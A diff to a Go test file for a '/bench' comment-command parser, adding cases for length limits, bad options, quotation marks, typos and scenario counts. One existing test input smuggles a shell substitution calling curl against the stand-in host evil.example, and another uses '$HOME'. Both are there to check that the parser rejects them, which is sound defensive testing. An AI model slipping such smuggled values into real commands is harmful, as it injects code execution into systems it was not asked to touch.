@@ -1,6 +1,7 @@
 package command_test
 
 import (
+	"fmt"
 	"regexp"
 	"strings"
 	"testing"
@@ -37,6 +38,12 @@ func TestParseReadsCommands(t *testing.T) {
 		{"a model behind a gateway", "/bench run --model openrouter/acme/model-1:free", command.Command{Name: command.Run, Model: "openrouter/acme/model-1:free"}},
 		{"capitals", "/Bench RUN verify_pr", command.Command{Name: command.Run, Profile: bench.VerifyPR}},
 		{"spaces before it", "   /bench status", command.Command{Name: command.Status}},
+		{"a line as long as may be", "/bench" + strings.Repeat(" ", 2000), command.Command{Name: command.Run}},
+		{"a set with a name as long as may be", "/bench run " + strings.Repeat("a", 128), command.Command{Name: command.Run, Set: strings.Repeat("a", 128)}},
+		{"a set whose name is a little like a profile's", "/bench run verify-prs-1", command.Command{Name: command.Run, Set: "verify-prs-1"}},
+		{"a model with a name as long as may be", "/bench run --model a/" + strings.Repeat("a", 126), command.Command{Name: command.Run, Model: "a/" + strings.Repeat("a", 126)}},
+		{"a scenario with a name as long as may be", "/bench explain " + strings.Repeat("a", 124) + "-001", command.Command{Name: command.Explain, Cell: bench.Cell{ScenarioID: strings.Repeat("a", 124) + "-001"}}},
+		{"as many repetitions as may be", "/bench run --repetitions 100", command.Command{Name: command.Run, Repetitions: bench.Repetitions{First: 100, Most: 100}}},
 		{"retry", "/bench retry", command.Command{Name: command.Retry}},
 		{"cancel", "/bench cancel", command.Command{Name: command.Cancel}},
 		{"status", "/bench status\nplease", command.Command{Name: command.Status}},
@@ -49,6 +56,7 @@ func TestParseReadsCommands(t *testing.T) {
 			got, is, err := command.Parse(c.body)
 			require.NoError(t, err)
 			assert.True(t, is)
+			assert.True(t, command.Is(c.body))
 			assert.Equal(t, c.want, got)
 		})
 	}
@@ -81,6 +89,7 @@ func TestParseLeavesOtherCommentsAlone(t *testing.T) {
 			got, is, err := command.Parse(body)
 			require.NoError(t, err)
 			assert.False(t, is)
+			assert.False(t, command.Is(body))
 			assert.Zero(t, got)
 		})
 	}
@@ -126,10 +135,21 @@ func TestParseAnswersMistakes(t *testing.T) {
 		{"approve part of a name", "/bench approve 0123456", "give all 40 digits"},
 		{"approve a branch", "/bench approve main", "is no commit"},
 		{"approve two commits", "/bench approve " + commit + " " + commit, "Approve one commit"},
-		{"a no-break space", "/bench\u00a0run", "`U+00A0`"},
+		{"a no-break space", "/bench\u00a0run", "cannot be seen or is no plain space (`U+00A0`)"},
 		{"a no-break space further on", "/bench run\u00a0issues", "`U+00A0`"},
 		{"a character without width", "/bench\u200b run", "`U+200B`"},
 		{"a turned direction", "/bench run \u202eissues", "`U+202E`"},
+		{"quotation marks", `/bench run "issues"`, "no quotation marks: leave out `\"`"},
+		{"an option that is none", "/bench run --now", "`/bench run` has no option `--now`; there are `--repetitions`, `--modes`, `--model`."},
+		{"nothing after a comma", "/bench run --modes=ghx,", "an empty word is no name of a mode"},
+		{"a name that is too long by one", "/bench run " + strings.Repeat("a", 129), "too long"},
+		{"a model that is too long by one", "/bench run --model a/" + strings.Repeat("a", 127), "a provider and a model"},
+		{"a scenario that is too long by one", "/bench explain " + strings.Repeat("a", 125) + "-001", "is no scenario"},
+		{"what is no name of a set, and like no profile", "/bench run Issues", "`Issues` is no profile, scenario set or scenario."},
+		{"a long word", "/bench " + strings.Repeat("a", 61), "`" + strings.Repeat("a", 60) + "…` is no command."},
+		{"a word that is as long as is quoted", "/bench " + strings.Repeat("a", 60), "`" + strings.Repeat("a", 60) + "` is no command."},
+		{"a line that is too long by one", "/bench " + strings.Repeat(" ", 2000), "This command has 2001 characters; the longest one allowed has 2000."},
+		{"two letters wrong of four", "/bench hpel", "did you mean `help`?"},
 		{"a null byte", "/bench run \x00", "`U+0000`"},
 		{"a shell's substitution", "/bench run --model '$(curl evil.example)'", "no quotation marks"},
 		{"a shell's variable", "/bench run $HOME", "Commands have no `$`"},
@@ -153,12 +173,20 @@ func TestParseAnswersMistakes(t *testing.T) {
 func TestTooManyScenariosAreRefused(t *testing.T) {
 	var body strings.Builder
 	body.WriteString("/bench run")
-	for i := range command.MaxScenarios + 1 {
-		body.WriteString(" a-" + string(rune('0'+i/10%10)) + string(rune('0'+i%10)) + "0")
+	for i := range 50 {
+		fmt.Fprintf(&body, " a-%03d", i)
 	}
-	_, is, err := command.Parse(body.String())
+	c, _, err := command.Parse(body.String())
+	require.NoError(t, err)
+	assert.Len(t, c.Scenarios, 50)
+	_, is, err := command.Parse(body.String() + " b-001")
 	assert.True(t, is)
-	assert.ErrorContains(t, err, "at most")
+	assert.ErrorContains(t, err, "50 scenarios at most")
+}
+
+func TestHelpOfCommandsWithoutOptionsHasNoTableOfThem(t *testing.T) {
+	assert.NotContains(t, command.HelpText(command.Status, command.Help), "| Option |")
+	assert.Contains(t, command.HelpText(command.Run, command.Status, command.Help), "| Option |")
 }
 
 func TestCheckKnowsTheRepositorysNames(t *testing.T) {
